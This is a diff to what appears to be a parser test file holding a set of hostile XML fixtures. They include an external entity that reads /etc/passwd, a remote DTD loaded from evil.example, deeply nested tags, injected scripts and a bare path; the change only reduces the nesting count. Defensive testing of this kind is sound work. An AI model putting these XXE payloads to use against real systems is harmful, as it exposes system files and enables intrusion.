@@ -49,7 +49,7 @@ XML = {
     "external.xml": '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + RSS.format(ITEM.format("&a;")),
     "remote.xml": '<!DOCTYPE rss SYSTEM "http://evil.example/evil.dtd">' + RSS.format(ITEM.format("Oil rose 4%.")),
     "nested.xml": RSS.format(ITEM.format(ESCAPED_DIVS + "Oil rose 4%.")),
-    "nested-xml.xml": RSS.format("<item>" * 100_000),
+    "nested-xml.xml": RSS.format("<item>" * 40_000),
     "scripts.xml": RSS.format(ITEM.format(SCRIPTS)),
     "path.xml": "/etc/passwd",
 }
